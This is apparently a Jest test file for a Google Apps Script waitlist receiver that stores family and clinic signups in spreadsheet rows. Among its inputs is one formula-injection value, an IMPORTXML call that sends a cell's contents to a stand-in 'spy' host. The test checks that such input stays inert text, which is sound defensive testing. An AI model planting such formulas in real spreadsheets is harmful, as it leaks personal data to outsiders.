/** @jest-environment node */
import { readFileSync } from "node:fs";
import type { Audience } from "../../src/audience/audience";
import { maxTextLength, signupPayload, validateSignup } from "../../src/waitlist/submission/signup";
import { FakeSpreadsheet, loadScript } from "./fake-apps-script";

const readme = readFileSync("receivers/README.md", "utf8");
const [, example = ""] = /```json\n(.*?)\n```/s.exec(readme) ?? [];
const clinic = JSON.parse(example);
const family = sentBy("patients", { name: "Ana Ruiz", email: "ana@mail.example" });

/** Returns what the form of an audience sends. */
function sentBy(audience: Audience, values: Record<string, string>): object {
  const validation = validateSignup(audience, values);
  if (!validation.ok) throw new Error(JSON.stringify(validation.messages));
  return signupPayload(validation.signup, new Date("2026-03-04T05:06:07.890Z"));
}

const now = new Date("2026-03-04T05:06:09.000Z");

let spreadsheet: FakeSpreadsheet;
let script: ReturnType<typeof loadScript>;

beforeEach(() => {
  jest.useFakeTimers({ now });
  spreadsheet = new FakeSpreadsheet();
  script = loadScript(spreadsheet);
});

/** Sends the signup of a family with these fields changed, which the script has to take. */
function signUp(changes: object = {}): void {
  expect(script.post(JSON.stringify({ ...family, ...changes }))).toBe("Received.");
}

function families() {
  return spreadsheet.sheet("Families");
}

function emails(): unknown[] {
  return spreadsheet.records("Families").map((row) => row["Email address"]);
}

test("the guide's example is what the form of clinics sends", () => {
  expect(sentBy("providers", clinic)).toEqual(clinic);
  expect(readme).toContain(`${maxTextLength.toLocaleString("en")} characters`);
});

describe("a signup", () => {
  test("is a row of its audience's sheet, under its fields' titles", () => {
    signUp();
    script.post(JSON.stringify(clinic));
    // Each field has a title, and none is kept under More.
    const common = { "Wants updates": "yes", Sent: "2026-03-04T05:06:07.890Z", Repeat: "" };
    expect(spreadsheet.records("Families")).toEqual([
      { "Full name": "Ana Ruiz", "Email address": "ana@mail.example", Received: now, ...common },
    ]);
    expect(spreadsheet.records("Clinics")).toEqual([
      {
        "Full name": "Dr. Lee",
        "Email address": "lee@clinic.example",
        "Practice or clinic name": "Lee & Partners",
        Role: "Owner",
        Specialties: "Obstetrics",
        "Patients per month": "about 300",
        Received: now,
        ...common,
      },
    ]);
  });

  test.each([
    ["a formula", '=IMPORTXML("https://spy.example?"&B2, "//a")'],
    ["a plus sign", "+1 555 0100"],
    ["leading zeros", "007"],
    ["a date", "2026-03-04"],
    ["a percentage", "50%"],
    ["a truth value", "TRUE"],
    ["an apostrophe", "'Alohi"],
    ["5,000 characters", "n".repeat(5000)],
  ])("with %s stays as it was typed", (_what, name) => {
    signUp({ name });
    expect(spreadsheet.records("Families")).toMatchObject([{ "Full name": name }]);
  });

  test("of a listed address is listed again, marked as a repeat", () => {
    signUp();
    signUp({ email: "ben@mail.example" });
    signUp({ email: "ANA@mail.example", isSubscribed: false });
    expect(spreadsheet.records("Families")).toMatchObject([
      { "Email address": "ana@mail.example", Repeat: "" },
      { "Email address": "ben@mail.example", Repeat: "" },
      { "Email address": "ANA@mail.example", Repeat: "yes", "Wants updates": "no" },
    ]);
  });

  test("with nothing but what is required is taken, and its other cells are blank", () => {
    const email = "o'b+x@s.b.io";
    script.post(JSON.stringify({ audienceType: "providers", name: "Dr. Lee", email }));
    expect(spreadsheet.records("Clinics")).toMatchObject([{ "Email address": email, Role: "" }]);
  });

  test("from a form with newer fields keeps them under More", () => {
    signUp();
    signUp({ email: "ben@mail.example", state: "Oregon", constructor: 1 });
    expect(spreadsheet.records("Families")[1]).toMatchObject({
      More: '{"state":"Oregon","constructor":1}',
    });
  });
});

test.each([1, 3, 4])("1,000 signups at once, one every %i steps, are 1,000 rows", (every) => {
  const waiting = Array.from({ length: 1000 }, (_, number) => `ana${number}@mail.example`);
  let running = 0;
  function startNext(): void {
    // Google runs 30 at a time.
    const email = running < 30 && waiting.pop();
    if (!email) return;
    running += 1;
    signUp({ email });
    running -= 1;
  }
  let step = 0;
  spreadsheet.betweenSteps = () => {
    step += 1;
    if (step % every === 0) startNext();
  };
  while (waiting.length > 0) startNext();
  expect([emails().length, new Set(emails()).size]).toEqual([1000, 1000]);
  expect([...spreadsheet.sheets.keys()]).toEqual(["Families"]);
});

describe("an owner", () => {
  test("may move columns and add some", () => {
    signUp();
    for (const row of families().cells) row.unshift(...row.splice(2, 1), "");
    families().cells[0]?.splice(1, 1, "Notes");
    signUp({ email: "ben@mail.example" });
    signUp({ email: "ben@mail.example" });
    const [titles, ...rows] = families().cells;
    expect(titles?.slice(0, 4)).toEqual(["Wants updates", "Notes", "Full name", "Email address"]);
    expect(rows.map((row) => row.slice(0, 4))).toEqual([
      ["yes", "", "Ana Ruiz", "ana@mail.example"],
      ["yes", "", "Ana Ruiz", "ben@mail.example"],
      ["yes", "", "Ana Ruiz", "ben@mail.example"],
    ]);
    expect(spreadsheet.records("Families").map(({ Repeat }) => Repeat)).toEqual(["", "", "yes"]);
  });

  test("who renames a title gets the old one as a new column", () => {
    signUp();
    families().cells[0]?.splice(1, 1, "E-mail");
    signUp({ email: "ben@mail.example" });
    expect(spreadsheet.records("Families")).toMatchObject([
      { "E-mail": "ana@mail.example", "Email address": "" },
      { "E-mail": "", "Email address": "ben@mail.example" },
    ]);
  });

  test.each([
    ["sorts the rows", 3, () => families().cells.push(...families().cells.splice(1, 1))],
    ["deletes a row", 2, () => families().cells.splice(1, 1)],
    ["deletes all rows", 1, () => families().cells.splice(0)],
    ["renames the sheet", 1, () => spreadsheet.sheets.delete("Families")],
  ])("who %s finds the next signup below the others", (_what, count, change) => {
    signUp();
    signUp({ email: "ben@mail.example" });
    change();
    signUp({ email: "zoe@mail.example" });
    expect(emails()).toHaveLength(count);
    expect(emails().at(-1)).toBe("zoe@mail.example");
  });
});

describe("the sheet Unreadable", () => {
  function refuse(reason: string): void {
    families().refusal = reason;
  }

  function failUntilAsleep(reason: string): void {
    spreadsheet.betweenSteps = () => {
      throw new Error(reason);
    };
    spreadsheet.whileAsleep = () => {
      spreadsheet.betweenSteps = () => {};
    };
  }

  test.each([
    ["a body that is not JSON", "name=Ana", /not valid JSON/],
    ["a body without a signup", "null", /Unknown audience/],
    ["an unknown audience", JSON.stringify({ ...family, audienceType: "constructor" }), /audience/],
    ["a list of audiences", JSON.stringify({ ...family, audienceType: ["patients"] }), /audience/],
    ["a name of spaces", JSON.stringify({ ...family, name: "  " }), /no name/],
    ["a list of names", JSON.stringify({ ...family, name: ["Ana"] }), /no name/],
    ["no email address", JSON.stringify({ ...family, email: undefined }), /no email/],
    ["half an email address", JSON.stringify({ ...family, email: "a@b" }), /no email/],
    ["a formula", "=1+1", /not valid JSON/],
    ["an empty body", undefined, /end of JSON/],
  ])("keeps %s, with the reason", (_what, body, reason) => {
    expect(script.post(body)).toMatch(reason);
    expect(spreadsheet.records("Unreadable")).toEqual([
      { Received: now, Reason: expect.stringMatching(reason), Body: body ?? "" },
    ]);
  });

  test.each([
    ["its own sheet refuses", "Violates the data validation rules.", refuse],
    ["meets an error of Google's that lasts", "Service Spreadsheets failed.", failUntilAsleep],
  ])("keeps a signup that %s", (_what, reason, hinder) => {
    signUp();
    hinder(reason);
    const body = JSON.stringify({ ...family, email: "ben@mail.example" });
    script.post(body);
    expect(spreadsheet.records("Unreadable")).toMatchObject([{ Reason: reason, Body: body }]);
  });

  test("keeps the beginning of a body that is too long for a cell", () => {
    const body = JSON.stringify({ ...family, name: "n".repeat(60_000) });
    script.post(body);
    expect(spreadsheet.records("Unreadable")).toMatchObject([{ Body: body.slice(0, 40_000) }]);
  });
});

test("the web app's address says that it works, or that it belongs to no spreadsheet", () => {
  expect(script.get()).toBe("This waitlist receiver works (version 5).");
  expect(loadScript(null).get()).toMatch(/belongs to no spreadsheet, so every signup is lost/);
});
